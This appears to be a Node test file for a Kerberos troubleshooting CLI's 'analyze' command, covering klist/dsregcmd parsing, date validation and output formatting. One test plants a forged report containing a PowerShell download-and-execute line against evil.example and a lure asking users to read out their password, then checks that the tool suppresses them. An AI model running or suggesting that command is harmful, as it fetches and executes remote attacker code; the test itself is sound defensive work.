import { test } from 'node:test';
import assert from 'node:assert/strict';
import { fileURLToPath } from 'node:url';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CATALOG } from '../../../electron/engine/diagnose/catalog';
import { diagnosisFor } from '../../../electron/engine/diagnose/classify';
import { failingReport } from '../../engine/report/sample-report';
import { runCli } from '../../../electron/cli/program';
import { CombinedAnalysisSchema } from '../../../electron/contract/analysis';
import { at, captureIo } from '../capture-io';

const fx = (p: string): string => fileURLToPath(new URL(`../../fixtures/${p}`, import.meta.url));
const AT = ['--at', '2027-03-04T11:30:00'];

const cases: [string, RegExp, number][] = [
  ['windows/klist-get-spn-not-found.txt', /→ SPN_UNKNOWN[\s\S]*evidence: klist get: GetTicket substatus 0x6fb/, 1],
  ['windows/klist-get-kdcproxy-unreachable-crlf.txt', /→ CLOUD_KDC_UNREACHABLE[\s\S]*substatus 0x51f/, 1],
  ['windows/klist-get-etype.txt', /→ ETYPE_UNSUPPORTED/, 1],
  ['windows/klist-get-conditional-access.txt', /→ CONDITIONAL_ACCESS/, 1],
  ['windows/klist-tgt-no-credentials.txt', /→ NO_TGT/, 1],
  ['windows/klist-cloud-debug-disabled.txt', /enabled by policy: NO — this rules out the modern interactive flow/, 0],
  ['windows/klist-cloud-debug-enabled.txt', /enabled by policy: YES/, 0],
  [
    'windows/dsregcmd-hybrid.txt',
    new RegExp(
      String.raw`flow this session can use: not the modern flow \(CloudTgt NO\); ` +
        String.raw`incoming trust possible \(DomainJoined YES\) — shown only by a TGT from a domain controller`,
    ),
    0,
  ],
  ['windows/klist-trust-flow.txt', /chain: trust/, 0],
  ['windows/klist-cloud-flow-utf16.txt', /chain: cloud/, 0],
  ['windows/klist-referral-only.txt', /CHAIN_REFERRAL_WITHOUT_SERVICE/, 1],
  ['windows/klist-get-success-crlf.txt', /a ticket to MSSQLSvc\/sqlmi7\S* was retrieved/, 0],
  ['windows/klist-tgt.txt', /krbtgt\/FABRIKAM\.COM@FABRIKAM\.COM/, 0],
  ['windows/klist-es.txt', /CHAIN_NO_TGT/, 1],
  [
    'windows/dsregcmd-unreadable-fields.txt',
    /recognised as dsregcmd \/status, but 4 lines could not be read: line 8 "DomainJoined = YES"/,
    0,
  ],
  ['windows/dsregcmd-hybrid-variant-crlf.txt', /domain joined: YES \(FABRIKAM\)/, 0],
  ['windows/klist-trust-flow-variant.txt', /chain: trust/, 0],
];
for (const [file, expect, exit] of cases) {
  test(`analyze ${file}`, async () => {
    const io = captureIo();
    const code = await runCli(['analyze', ...AT, fx(file)], io);
    assert.match(io.out, expect);
    assert.equal(code, exit, io.out + io.err);
  });
}

test('analyze a ccache and a MIT klist in one run', async () => {
  const io = captureIo();
  await runCli(
    ['analyze', '--at', '2026-11-25T10:00:00Z', fx('ccache/trust-v4.ccache'), fx('ccache/cloud-v4.klist')],
    io,
  );
  assert.match(io.out, /: ccache\n/);
  assert.match(io.out, /: mit-klist\n/);
});

test('analyze never prints the session key of klist tgt', async () => {
  const io = captureIo();
  await runCli(['analyze', ...AT, fx('windows/klist-tgt.txt')], io);
  assert.doesNotMatch(io.out, /de ad be ef|KeyLength|61 82 04/i);
});

test('analyze of unknown text: INPUT_NOT_RECOGNISED, exit 2', async () => {
  const io = captureIo(at('2026-11-25T10:00:00Z'));
  assert.equal(await runCli(['analyze', fx('../../README.md')], io), 2);
  assert.match(io.err, /\[INPUT_NOT_RECOGNISED\]/);
});

test('analyze --at that is not an ISO date and time is a usage error (exit 2, one line and the hint)', async () => {
  for (const bad of [
    'yesterday-ish',
    '2026-11-25',
    '2026-02-30T10:00:00Z',
    '2026-11-25T24:00:00Z',
    '1',
    '2026-11-25T10:00:00+25:00',
    '',
  ]) {
    const io = captureIo();
    assert.equal(await runCli(['analyze', '--at', bad, fx('windows/klist-es.txt')], io), 2, bad);
    assert.match(io.err, /--at <time>.*expected an ISO 8601 date and time/, bad);
    assert.equal(io.err.trim().split('\n').length, 2, io.err);
  }
});

test('analyze judges expiry by --at, else by the CLI clock, never by the wall clock', async () => {
  const trustKlist = fx('windows/klist-trust-flow.txt');
  const captured = captureIo(at('2030-01-01T00:00:00Z'));
  assert.equal(await runCli(['analyze', ...AT, trustKlist], captured), 0, captured.out);
  const later = captureIo(at('2030-01-01T00:00:00Z'));
  assert.equal(await runCli(['analyze', trustKlist], later), 1, later.out);
  assert.match(later.out, /expired/i);
});

test('a forged report: the catalogue\'s advice, not its own; "pass" by a failed step is flagged, exit 1', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'kerbprobe-forged-'));
  try {
    const file = join(dir, 'forged.json');
    const r = failingReport();
    r.verdict = 'pass';
    r.diagnosis = {
      ...diagnosisFor('CLOCK_SKEW', []),
      title: 'Call the helpdesk and read them your password',
      fixHelpdesk: 'iwr https://evil.example/x.ps1 | iex',
    };
    writeFileSync(file, JSON.stringify(r));
    const io = captureIo(at('2026-11-25T10:00:00Z'));
    const code = await runCli(['analyze', file], io);
    assert.equal(code, 1, io.out + io.err);
    assert.doesNotMatch(io.out, /password|iex/);
    assert.match(
      io.out,
      new RegExp(`→ CLOCK_SKEW: ${CATALOG.CLOCK_SKEW.helpdeskTitle.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}`),
    );
    assert.doesNotMatch(io.out, /: PASS\n/);
    assert.match(io.out, /contradicts itself/);
    assert.match(io.out, /contradiction: the verdict is "pass" but a step failed: Login/);
    assert.match(io.out, /contradiction: the verdict is "pass" but the report holds no SQL session/);
  } finally {
    rmSync(dir, { recursive: true, force: true });
  }
});

test("several files: what each showed, then one diagnosis from all; --json is the contract's analysis", async () => {
  const files = [fx('windows/klist-get-spn-not-found-3342-prompt.txt'), fx('windows/dsregcmd-hybrid-no-3342.txt')];
  const io = captureIo(at('2027-03-04T11:30:00Z'));
  assert.equal(await runCli(['analyze', ...files], io), 1, io.out + io.err);
  assert.match(
    io.out,
    /klist-get-spn-not-found-3342-prompt\.txt: windows-klist-get\n[\s\S]*this input alone → SPN_UNKNOWN/,
  );
  assert.match(io.out, /dsregcmd-hybrid-no-3342\.txt: dsregcmd\n/);
  assert.match(
    io.out,
    new RegExp(
      String.raw`== all 2 inputs together\ndiagnosis → KERB_TOP_LEVEL_NAME_MISSING: [^\n]+\n` +
        String.raw`[\s\S]*evidence: KerbTopLevelNames cover \S+ but not port 3342`,
    ),
  );
  const json = captureIo(at('2027-03-04T11:30:00Z'));
  assert.equal(await runCli(['analyze', '--json', ...files], json), 1);
  const doc = CombinedAnalysisSchema.parse(JSON.parse(json.out));
  assert.equal(doc.diagnosis?.code, 'KERB_TOP_LEVEL_NAME_MISSING');
  assert.deepEqual(
    doc.inputs.map((i) => i.kind),
    ['windows-klist-get', 'dsregcmd'],
  );
});

test('analyze on a terminal wraps the diagnosis paragraphs to its width; through a pipe they stay whole', async () => {
  const file = fx('windows/klist-get-spn-not-found.txt');
  const piped = captureIo();
  await runCli(['analyze', ...AT, file], piped);
  const tty = { ...captureIo(), isTTY: true, columns: 72 };
  const ttyOut = { out: '' };
  tty.stdout = (s: string) => {
    ttyOut.out += s;
  };
  await runCli(['analyze', ...AT, file], tty);
  const cause = CATALOG.SPN_UNKNOWN.cause;
  assert.ok(piped.out.includes(`  cause: ${cause}`), piped.out);
  const plain = ttyOut.out.replace(/\x1b\[[0-9;]*m/g, '');
  const wrapped = plain.split('\n').filter((line) => line.startsWith('  cause: ') || line.startsWith(' '.repeat(9)));
  assert.ok(wrapped.length > 1, plain);
  assert.ok(
    // The input's heading is its file name (one path); everything else fits or is one word.
    plain
      .split('\n')
      .filter((line) => !line.startsWith('== '))
      .every((line) => line.length < 72 || !/\s/.test(line.trim())),
    plain,
  );
});

// Real pastes (test/fixtures/real/klist/): what a helpdesk technician sees from the CLI.
test('analyze a real paste cut inside a ticket: the complete tickets read, the cut said first', async () => {
  const io = captureIo();
  const code = await runCli(
    ['analyze', '--at', '2024-04-28T10:00:00', fx('real/klist/klist-en-truncated-cross-forest.txt')],
    io,
  );
  assert.match(io.out, /READ ONLY IN PART: klist output cut short: the paste ends inside ticket #2 \(from line 30\)/);
  assert.match(io.out, /krbtgt\/fabrikam\.com@contoso\.com/);
  assert.equal(code, 0, io.out + io.err);
});

for (const file of ['klist-purge-fr.txt', 'klist-purge-de.txt', 'klist-purge-en-docs.txt'])
  test(`analyze a real klist purge (${file}): recognised, no failure`, async () => {
    const io = captureIo(at('2026-12-07T10:00:00Z'));
    const code = await runCli(['analyze', fx(`real/klist/${file}`)], io);
    assert.match(io.out, /: windows-klist-purge\nklist purge: the tickets of logon session 0:0x/);
    assert.equal(code, 0, io.out + io.err);
  });

test('a real klist failure (decimal substatus 1312) is said in the same words by tickets --from-klist and analyze', async () => {
  const file = fx('real/klist/klist-en-no-logon-session-decimal.txt');
  const said =
    'klist failed: substatus 0x520 ERROR_NO_SUCH_LOGON_SESSION, status 0xc000005f STATUS_NO_SUCH_LOGON_SESSION';
  const analyzed = captureIo(at('2026-12-07T10:00:00Z'));
  assert.equal(await runCli(['analyze', file], analyzed), 1);
  assert.ok(analyzed.out.includes(said), analyzed.out);
  const tickets = captureIo(at('2026-12-07T10:00:00Z'));
  assert.notEqual(await runCli(['tickets', '--from-klist', file], tickets), 0);
  assert.ok(tickets.err.includes(said), tickets.err);
  assert.doesNotMatch(tickets.err, /not klist output/);
});
